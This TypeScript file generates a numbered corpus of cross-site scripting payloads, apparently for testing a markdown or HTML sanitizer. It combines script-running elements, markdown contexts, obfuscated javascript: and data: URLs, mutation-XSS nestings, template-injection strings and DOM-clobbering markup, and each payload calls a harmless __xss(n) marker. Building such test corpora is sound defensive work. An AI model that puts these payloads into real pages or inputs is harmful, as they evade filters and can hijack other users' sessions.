/**
 * Texts that would run a script, load something or take over the page in a client that trusts them. They are put
 * together from vectors (what runs), contexts (where in a text it stands) and disguises (how it is written);
 * each calls `__xss(n)` with its number, if anything does.
 */
export interface Payload {
  id: number;
  family: string;
  text: string;
}

/** Elements whose mere presence runs something. */
const elements: string[] = [
  "<script>CALL</script>",
  "<script type=module>CALL</script>",
  '<script src="data:text/javascript,CALL"></script>',
  '<script src="//elsewhere.example/x.js"></script>',
  "<img src=x onerror=CALL>",
  '<img src="x" onerror="CALL">',
  "<img/src=x/onerror=CALL>",
  '<img src="data:image/svg+xml,%3Csvg%20onload=CALL%3E" onload=CALL>',
  "<image src=x onerror=CALL>",
  "<svg onload=CALL>",
  "<svg><script>CALL</script></svg>",
  "<svg><script href=data:text/javascript,CALL /></svg>",
  "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
  '<svg><a xlink:href="javascript:CALL"><text x=9 y=9>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:CALL" /><text>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to="CALL"></svg>',
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>parent.CALL</script>'></iframe></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:CALL>x</maction></math>",
  "<math><mtext><script>CALL</script></mtext></math>",
  '<math href="javascript:CALL">x</math>',
  "<iframe src=javascript:CALL></iframe>",
  '<iframe srcdoc="&lt;script&gt;parent.CALL&lt;/script&gt;"></iframe>',
  "<object data=javascript:CALL></object>",
  '<object data="data:text/html,<script>parent.CALL</script>"></object>',
  "<embed src=javascript:CALL>",
  "<body onload=CALL>",
  "<video src=x onerror=CALL></video>",
  "<video><source onerror=CALL src=x></video>",
  "<audio src=x onerror=CALL></audio>",
  "<details open ontoggle=CALL>x</details>",
  "<input autofocus onfocus=CALL>",
  "<select autofocus onfocus=CALL></select>",
  "<textarea autofocus onfocus=CALL></textarea>",
  "<a href=# autofocus tabindex=1 onfocus=CALL>x</a>",
  "<div style=animation-name:x onanimationstart=CALL>x</div>",
  "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationend=CALL>x</p>",
  "<style>@import '//elsewhere.example/x.css';</style>",
  "<link rel=stylesheet href=//elsewhere.example/x.css>",
  "<link rel=import href=data:text/html,CALL>",
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<meta http-equiv="refresh" content="0;url=//elsewhere.example/">',
  "<base href=//elsewhere.example/>",
  "<form action=javascript:CALL><button autofocus onfocus=CALL>x</button></form>",
  "<form><button formaction=javascript:CALL>x</button></form>",
  "<isindex type=image src=1 onerror=CALL>",
  "<marquee onstart=CALL>x</marquee>",
  "<keygen autofocus onfocus=CALL>",
  "<frameset onload=CALL>",
  "<table background=javascript:CALL><td>x</td></table>",
  "<xss onpointerenter=CALL style=position:fixed;inset:0>x</xss>",
  "<dialog open oncancel=CALL onclose=CALL><form method=dialog><button>x</button></form></dialog>",
  "<template><script>CALL</script></template>",
  "<noscript><img src=x onerror=CALL></noscript>",
  "<portal src=javascript:CALL></portal>",
  "<custom-element is=x onclick=CALL>x</custom-element>",
  "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=CALL>y</div>",
];

/** Places in a text where a parser may be in another state than it thinks. */
const contexts: [string, (inner: string) => string][] = [
  ["bare", (inner) => inner],
  ["in bold", (inner) => `**${inner}**`],
  ["in a quote", (inner) => `> ${inner}`],
  ["in an item", (inner) => `- ${inner}\n- x`],
  ["in a heading", (inner) => `# ${inner}`],
  ["in code", (inner) => `\`${inner}\``],
  ["after unclosed code", (inner) => `\`\`${inner}`],
  ["in a fence", (inner) => `\`\`\`html\n${inner}\n\`\`\``],
  ["in a fence's language", (inner) => `\`\`\`${inner}\nx\n\`\`\``],
  ["in a table", (inner) => `| a | b |\n|---|---|\n| ${inner} | x |`],
  ["in a link's text", (inner) => `[${inner}](https://example.org)`],
  ["in a link's title", (inner) => `[x](https://example.org '${inner}')`],
  ["in an image's name", (inner) => `![${inner}](https://elsewhere.example/x.png)`],
];

/** Ways to write an address that runs. */
const addresses: string[] = [
  "javascript:CALL",
  "JaVaScRiPt:CALL",
  " javascript:CALL",
  "\u0001javascript:CALL",
  "java\tscript:CALL",
  "java\nscript:CALL",
  "java\rscript:CALL",
  "javascript&colon;CALL",
  "javascript&#58;CALL",
  "javascript&#x3a;CALL",
  "&#106;avascript:CALL",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;CALL",
  "j&Tab;avascript:CALL",
  "j&NewLine;avascript:CALL",
  "javascript%3ACALL",
  "%6aavascript:CALL",
  "\\javascript:CALL",
  "java\\script:CALL",
  "javascript://example.org/%0aCALL",
  "javascript:/*--></title></style></script>*/CALL",
  "javascript\u200b:CALL",
  "\ufeffjavascript:CALL",
  "ｊavascript:CALL",
  "vbscript:CALL",
  "livescript:CALL",
  "data:text/html,<script>CALL</script>",
  "data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+",
  "data:image/svg+xml,<svg onload=CALL>",
  "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>CALL</script></x>",
  "blob:https://example.org/CALL",
  "file:///etc/passwd?CALL",
  "about:blank#CALL",
  "view-source:javascript:CALL",
  "feed:javascript:CALL",
  "jar:javascript:CALL",
  "//elsewhere.example/CALL",
  "\\\\elsewhere.example\\CALL",
  "/\\elsewhere.example/CALL",
  "https:elsewhere.example/CALL",
  "x:javascript:CALL",
];

const addressContexts: [string, (address: string) => string][] = [
  ["link", (address) => `[click](${address})`],
  ["pointed link", (address) => `[click](<${address}>)`],
  ["reference link", (address) => `[click][r]\n\n[r]: ${address}`],
  ["autolink", (address) => `<${address}>`],
  ["image", (address) => `![x](${address})`],
  ["anchor", (address) => `<a href="${address}">click</a>`],
];

/** Nestings that change their meaning when they are parsed a second time. */
const mutations: string[] = [
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  "<math><mtext><table><mglyph><style><math><img src=x onerror=CALL>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
  '<svg><p><style><g title="</style><img src=x onerror=CALL>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CALL></style></annotation-xml></math>',
  "<svg><desc><template><style><img src=x onerror=CALL></style></template></desc></svg>",
  '<template><s><template><s><img src="</template></s></template><img src=x onerror=CALL>">',
  '<textarea><img title="</textarea><img src=x onerror=CALL>">',
  '<title><img title="</title><img src=x onerror=CALL>">',
  '<xmp><img title="</xmp><img src=x onerror=CALL>">',
  '<plaintext><img title="</plaintext><img src=x onerror=CALL>">',
  "<select><style></select><img src=x onerror=CALL></style>",
  "<select><iframe><select><img src=x onerror=CALL>",
  "<table><caption><select><table><img src=x onerror=CALL></table></select></caption></table>",
  '<a id="x"><svg><a id="</svg><img src=x onerror=CALL>"></a>',
  "<svg><title><![CDATA[</title><img src=x onerror=CALL>]]></svg>",
  "<!--><img src=x onerror=CALL>-->",
  "<!--- ><img src=x onerror=CALL> -->",
  "<!--x--!><img src=x onerror=CALL>-->",
  "<![CDATA[<img src=x onerror=CALL>]]>",
  "<?xml-stylesheet href='javascript:CALL'?><img src=x onerror=CALL>",
  "<!DOCTYPE x [<!ENTITY y 'CALL'>]><img src=x onerror=CALL>",
  "</p></div></article></main></body><img src=x onerror=CALL>",
  "<<img src=x onerror=CALL>",
  "<img src=x onerror=CALL//",
  "<img src=x onerror=CALL <b>",
  "<scr<script>ipt>CALL</scr</script>ipt>",
  "<SCRIPT\u2028>CALL</SCRIPT>",
  "<script\u0000>CALL</script>",
  "<\u0000script>CALL</script>",
  "<img\u000bsrc=x\u000conerror=CALL>",
  "<img src=x one\u0000rror=CALL>",
  "%3Cimg%20src=x%20onerror=CALL%3E",
  "&lt;img src=x onerror=CALL&gt;",
  "&amp;lt;img src=x onerror=CALL&amp;gt;",
  "\\u003cimg src=x onerror=CALL\\u003e",
  "\\x3cimg src=x onerror=CALL\\x3e",
  "＜img src=x onerror=CALL＞",
  "+ADw-script+AD4-CALL+ADw-/script+AD4-",
];

/** Texts for whoever evaluates templates, quotes, styles or names. */
const others: string[] = [
  "{{constructor.constructor('CALL')()}}",
  "{{ __xss(0) }}",
  "${CALL}",
  "#{CALL}",
  "<%= CALL %>",
  "{{=CALL}}",
  "[[${CALL}]]",
  "@{CALL}",
  "v-html=\"'<img src=x onerror=CALL>'\"",
  '<div v-html="CALL">{{ CALL }}</div>',
  "<p v-on:click=CALL @click=CALL :href=CALL>x</p>",
  "{@html CALL}",
  "$t('CALL') @:linked.CALL {0} {name} %{count} | a | b",
  '"><img src=x onerror=CALL>',
  "'><img src=x onerror=CALL>",
  '" onmouseover="CALL" x="',
  "' onmouseover='CALL' x='",
  "` onmouseover=`CALL` x=`",
  '" autofocus onfocus=CALL x="',
  '";CALL;//',
  "';CALL;//",
  "</title><script>CALL</script>",
  "</textarea><script>CALL</script>",
  "</style><script>CALL</script>",
  "--><script>CALL</script>",
  "]]><script>CALL</script>",
  "*/CALL/*",
  "\u202eTPIRCS<img src=x onerror=CALL>",
  "\u2066<img src=x onerror=CALL>\u2069",
  "<\u200bimg src=x onerror=CALL>",
  "<i\u00admg src=x onerror=CALL>",
  "\u{e003c}img src=x onerror=CALL\u{e003e}",
  "<p style=\"background:url('javascript:CALL')\">x</p>",
  "<p style=background:url(//elsewhere.example/x)>x</p>",
  "<p style=width:expression(CALL)>x</p>",
  "<p style=\"-moz-binding:url('//elsewhere.example/x.xml#x')\">x</p>",
  "<p style='position:fixed;inset:0;z-index:99999'>cover</p>",
  "<p class='toast dialog modal' role=alert>fake</p>",
  "<a id=__proto__ name=constructor>x</a>",
  "<form id=document name=cookie><input name=attributes><input id=parentNode></form>",
  "<a id=defaultView><a id=defaultView name=location href=javascript:CALL>x</a>",
  "<img name=getElementById><img name=querySelector><img name=body>",
  "<form id=app name=app><input name=innerHTML></form>",
  "<input id=__xss><iframe name=top srcdoc=x></iframe>",
  "<a id=trustedTypes name=createPolicy>x</a>",
  "[x](# 'onclick=CALL')",
  '[x](https://example.org "onmouseover=CALL")',
  '[x](https://example.org/"onmouseover="CALL)',
  "[x](https://example.org/'onmouseover='CALL)",
  "[a](https://example.org/`onmouseover=`CALL)",
  '![x" onerror="CALL](x)',
  '![x](x" onerror="CALL)',
  "https://example.org/<img/src=x/onerror=CALL>",
  'https://example.org/"onmouseover="CALL',
  "www.example.org/?a=<script>CALL</script>",
  "user@example.org<script>CALL</script>",
  "<mailto:x@example.org?subject=<script>CALL</script>>",
  "[x]: javascript:CALL\n[x]",
  "[^x]: <img src=x onerror=CALL>\n[^x]",
  ":smile<img src=x onerror=CALL>:",
  "@<img src=x onerror=CALL>",
  "#<img src=x onerror=CALL>",
  "<x@y onclick=CALL>",
  "\\<img src=x onerror=CALL\\>",
  "\\`<img src=x onerror=CALL>\\`",
  "&#60;img src=x onerror=CALL&#62;",
  "&lt&#59;img src=x onerror=CALL&gt&#59;",
  "$$\\href{javascript:CALL}{x}$$",
  "```mermaid\ngraph TD; A-->B; click A call __xss()\n```",
  "---\ntitle: <img src=x onerror=CALL>\n---",
];

/** All payloads, all different, always in this order. */
export const corpus: Payload[] = build();

function build(): Payload[] {
  const drafts: { family: string; text: string }[] = [];
  elements.forEach((element, i) => {
    drafts.push({ family: "element", text: element });
    // Not every element in every place: each element in three, each place with many.
    for (let k = 0; k < 3; k++) {
      const chosen = contexts.slice(1 + ((i * 5 + k * 4) % (contexts.length - 1))).slice(0, 1);
      for (const [place, put] of chosen) drafts.push({ family: `element ${place}`, text: put(element) });
    }
  });
  addresses.forEach((address) => {
    for (const [place, put] of addressContexts)
      drafts.push({ family: `address as ${place}`, text: put(address) });
  });
  for (const mutation of mutations) {
    drafts.push(
      { family: "mutation", text: mutation },
      { family: "mutation in a quote", text: `> ${mutation}` },
    );
  }
  for (const other of others) drafts.push({ family: "other", text: other });

  const seen = new Set<string>();
  const all: Payload[] = [];
  for (const { family, text } of drafts) {
    if (seen.has(text)) continue;
    seen.add(text);
    const id = all.length + 1;
    all.push({ id, family, text: text.replaceAll("CALL", `__xss(${id})`) });
  }
  return all;
}

/** Those that fit on one line of so many characters, as names must. */
export function lines(longest: number): Payload[] {
  return corpus.filter(
    ({ text }) => text.length <= longest && !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text),
  );
}
